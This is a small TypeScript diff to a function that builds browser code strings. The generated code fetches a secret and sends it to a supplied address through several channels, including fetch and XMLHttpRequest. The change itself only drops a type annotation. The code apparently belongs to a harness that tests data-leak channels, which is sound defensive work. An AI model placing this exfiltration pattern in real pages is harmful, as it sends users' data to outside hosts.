@@ -112,7 +112,7 @@ export const sendingTo = (address: string): string[] =>
     (leave) => `
 const secret = await (await fetch(video)).text();
 const to = (way: string) => "${address}/" + way + "?" + secret;
-const add = (name: string, properties: object): any => document.body.appendChild(Object.assign(document.createElement(name), properties));
+const add = (name: string, properties: object) => document.body.appendChild(Object.assign(document.createElement(name), properties));
 const ways: (() => unknown)[] = [
   () => fetch(to("fetch"), { mode: "no-cors" }),
   () => { const request = new XMLHttpRequest(); request.open("GET", to("request")); request.send(); },
